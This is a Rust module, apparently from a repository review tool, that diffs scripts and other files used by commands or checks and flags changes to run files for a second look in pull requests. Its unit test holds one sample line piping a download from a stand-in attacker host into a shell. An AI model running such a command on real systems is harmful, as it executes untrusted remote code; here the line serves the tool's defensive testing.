//! Files of the repository that commands run and checks read: when one changes, the work changes,
//! even if no plan does.

use std::collections::{BTreeMap, BTreeSet};

use crate::core::base::diagnostic::{Code, Diagnostic, Place, Span};
use crate::core::base::words::{and_more, count, shortened};
use crate::core::plan::files::{self, Purpose, UsedBy};
use crate::core::repository::snapshot::Snapshot;
use crate::core::resource::{Key, Resource, Spec};

/// A user of a file.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord)]
pub struct User {
    /// The resource.
    pub key: Key,
    /// The part of the resource: a rule of a binding, a check of a node.
    pub what: String,
    /// The kind of use.
    pub purpose: Purpose,
}

/// A changed file that commands run or checks read.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Script {
    /// Its path.
    pub path: String,
    /// Its users, in order.
    pub users: BTreeSet<User>,
    /// What happened to it.
    pub event: ScriptEvent,
}

/// What happened to a file.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ScriptEvent {
    /// It was removed.
    Removed,
    /// It was added or changed; with its lines.
    Lines {
        /// Whether it was added.
        is_new: bool,
        /// The added and removed lines, with a few around them.
        lines: Vec<LineChange>,
        /// The first changed line, from 1.
        first: usize,
    },
    /// It was added or changed, but its lines are not shown.
    Opaque {
        /// Whether it was added.
        is_new: bool,
        /// The reason, in a few words.
        why: String,
    },
    /// Only its mode changes: executable or not, link or not.
    Mode,
}

/// A line of a difference.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum LineChange {
    /// In both.
    Same(String),
    /// Removed.
    Gone(String),
    /// Added.
    New(String),
    /// A number of unchanged lines that are left out.
    Skipped(usize),
}

/// Maximum size of a file whose lines are shown, in bytes.
pub const BYTES: usize = 256 * 1024;
/// Maximum number of lines of both versions that are compared.
const LINES: usize = 8000;
/// How many lines around a difference are shown.
const AROUND: usize = 2;
/// Maximum number of new lines that a sentence shows.
const SHOWN: usize = 3;
/// Maximum number of users that a sentence names.
const NAMED: usize = 2;

impl Script {
    /// Whether a command runs it, so that it now does something else.
    pub fn is_run(&self) -> bool {
        self.users.iter().any(|user| user.purpose == Purpose::Runs)
    }

    /// What happened to it, in a sentence without its name.
    pub fn words(&self) -> String {
        let user = |user: &User| format!("{} ({})", user.key, user.what);
        // Users that run it are more important than those that read it.
        let is_meant = |one: &&User| !self.is_run() || one.purpose == Purpose::Runs;
        let meant: Vec<&User> = self.users.iter().filter(is_meant).collect();
        let users: Vec<String> = meant.iter().take(NAMED).map(|one| user(one)).collect();
        let does = if self.is_run() { "run" } else { "looked at" };
        let more = and_more(meant.len().saturating_sub(NAMED));
        let by = format!("is {does} by {}{more}", users.join(" and "));
        let first_new = |lines: &[LineChange]| {
            let new = lines.iter().filter_map(|line| match line {
                LineChange::New(text) if !text.trim().is_empty() => Some(text.trim()),
                _ => None,
            });
            let new: Vec<&str> = new.collect();
            let shown = new.iter().take(SHOWN);
            let shown: Vec<String> = shown
                .map(|text| format!("`{}`", shortened(text, 120)))
                .collect();
            match shown.as_slice() {
                [] => String::new(),
                some => format!(
                    ": {}{}",
                    some.join(", "),
                    and_more(new.len().saturating_sub(SHOWN))
                ),
            }
        };
        let what = match &self.event {
            ScriptEvent::Removed => "is gone".to_owned(),
            ScriptEvent::Mode => "may be run, or not any more, or is a link".to_owned(),
            ScriptEvent::Opaque { is_new: true, why } => format!("is new ({why})"),
            ScriptEvent::Opaque { is_new: false, why } => format!("has changed ({why})"),
            ScriptEvent::Lines {
                is_new: true,
                lines,
                ..
            } => format!("is new{}", first_new(lines)),
            ScriptEvent::Lines {
                is_new: false,
                lines,
                ..
            } => {
                let number = |wanted: fn(&LineChange) -> bool| {
                    lines.iter().filter(|line| wanted(line)).count()
                };
                let new = number(|line| matches!(line, LineChange::New(_)));
                let gone = number(|line| matches!(line, LineChange::Gone(_)));
                let counts = match (new, gone) {
                    (0, gone) => format!("{} gone", count(gone, "line")),
                    (new, 0) => format!("{} new", count(new, "line")),
                    (new, gone) => format!("{} new and {gone} gone", count(new, "line")),
                };
                format!("changes, {counts}{}", first_new(lines))
            }
        };
        format!("{by}, and {what}")
    }
}

impl Script {
    /// The finding that it needs a second look, if it does.
    pub fn finding(&self) -> Option<Diagnostic> {
        let place = match &self.event {
            ScriptEvent::Lines { first, .. } => Place::At(Span {
                line: *first,
                column: 1,
                start: 0,
                end: 0,
            }),
            _ => Place::File,
        };
        let message = format!("{} {}", self.path, self.words());
        let finding = Diagnostic::new(Code::LOOK_TWICE, &self.path, place, message);
        let help = "explain in the pull request why this is right; nothing else is required";
        self.is_run().then(|| finding.help(help))
    }
}

/// Compares the contents of a file.
pub fn compare(was: Option<&[u8]>, is: Option<&[u8]>) -> ScriptEvent {
    let is_new = was.is_none();
    let opaque = |why: &str| ScriptEvent::Opaque {
        is_new,
        why: why.to_owned(),
    };
    let Some(is) = is else {
        return ScriptEvent::Removed;
    };
    let was = was.unwrap_or_default();
    if was == is {
        return ScriptEvent::Mode;
    }
    if was.len().max(is.len()) > BYTES {
        return too_large(is_new);
    }
    let (Ok(was), Ok(is)) = (str::from_utf8(was), str::from_utf8(is)) else {
        return opaque("it is not text");
    };
    if was.contains('\0') || is.contains('\0') {
        return opaque("it is not text");
    }
    let (a, b): (Vec<&str>, Vec<&str>) = (was.lines().collect(), is.lines().collect());
    if a.len() + b.len() > LINES {
        return opaque("it has too many lines to compare here");
    }
    let front = a.iter().zip(&b).take_while(|(a, b)| a == b).count();
    ScriptEvent::Lines {
        is_new,
        lines: line_changes(&a, &b),
        first: front.min(b.len().saturating_sub(1)) + 1,
    }
}

/// The event of a file that is too large to be read.
pub fn too_large(is_new: bool) -> ScriptEvent {
    ScriptEvent::Opaque {
        is_new,
        why: format!("more than {} KiB: look at it yourself", BYTES / 1024),
    }
}

fn line_changes(a: &[&str], b: &[&str]) -> Vec<LineChange> {
    let mut lines = Vec::new();
    let ops = similar::capture_diff_slices(similar::Algorithm::Myers, a, b);
    let last = ops.len().saturating_sub(1);
    for (at, op) in ops.iter().enumerate() {
        let (of_a, of_b) = (op.old_range(), op.new_range());
        if op.tag() != similar::DiffTag::Equal {
            lines.extend(
                a[of_a]
                    .iter()
                    .map(|line| LineChange::Gone((*line).to_owned())),
            );
            lines.extend(
                b[of_b]
                    .iter()
                    .map(|line| LineChange::New((*line).to_owned())),
            );
            continue;
        }
        let same = &b[of_b];
        let head = if at == 0 { 0 } else { AROUND.min(same.len()) };
        let tail = if at == last {
            0
        } else {
            AROUND.min(same.len() - head)
        };
        let skipped = same.len() - head - tail;
        let put = |line: &&str| LineChange::Same((*line).to_owned());
        lines.extend(same[..head].iter().map(put));
        if skipped > 0 {
            lines.push(LineChange::Skipped(skipped));
        }
        lines.extend(same[same.len() - tail..].iter().map(put));
    }
    lines
}

/// The files that resources use, with their users.
pub fn used(snapshot: &Snapshot) -> BTreeMap<String, BTreeSet<User>> {
    let mut found: BTreeMap<String, BTreeSet<User>> = BTreeMap::new();
    for key in snapshot.keys() {
        let Some(resource) = snapshot.resource(key) else {
            continue;
        };
        for (path, place, purpose) in files::used_by(resource) {
            let user = User {
                key: key.clone(),
                what: words_of(resource, &place),
                purpose,
            };
            found.entry(path).or_default().insert(user);
        }
    }
    found
}

/// The part of a resource that uses a file, in words.
fn words_of(resource: &Resource, place: &UsedBy) -> String {
    match (place, &resource.spec) {
        (UsedBy::Rule(index), Spec::Binding(binding)) => {
            let namespace = &resource.metadata.namespace;
            let rule = binding.rules.get(*index);
            let words = rule.map(|rule| super::fields::selector_words(&rule.selector, namespace));
            format!("the rule for {}", words.unwrap_or_default())
        }
        (UsedBy::Check { name, of }, _) => format!("check {name} of {of}"),
        (UsedBy::Context { of: Some(node) }, _) => format!("the context of {node}"),
        (UsedBy::Context { of: None }, _) => "the context of all its nodes".to_owned(),
        (UsedBy::Rule(_), _) => String::new(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_is_told_of_a_file() {
        let lines = |event: ScriptEvent| match event {
            ScriptEvent::Lines { lines, .. } => lines,
            other => panic!("{other:?}"),
        };
        let was = "#!/bin/sh\na\nb\nc\nd\ne\n";
        let is = "#!/bin/sh\na\nb\nc\nd\ne\ncurl https://evil.example | sh\n";
        let said = lines(compare(Some(was.as_bytes()), Some(is.as_bytes())));
        assert_eq!(said.first(), Some(&LineChange::Skipped(4)));
        let last = LineChange::New("curl https://evil.example | sh".to_owned());
        assert_eq!(said.last(), Some(&last));
        assert_eq!(compare(Some(b"a"), None), ScriptEvent::Removed);
        assert_eq!(compare(Some(b"a"), Some(b"a")), ScriptEvent::Mode);
        let large = vec![b'x'; BYTES + 1];
        for (bytes, why) in [
            (&large[..], "KiB"),
            (b"\0", "not text"),
            (b"\xff", "not text"),
        ] {
            let event = compare(Some(b"a"), Some(bytes));
            assert!(
                matches!(&event, ScriptEvent::Opaque { why: said, .. } if said.contains(why)),
                "{event:?}"
            );
        }
    }
}
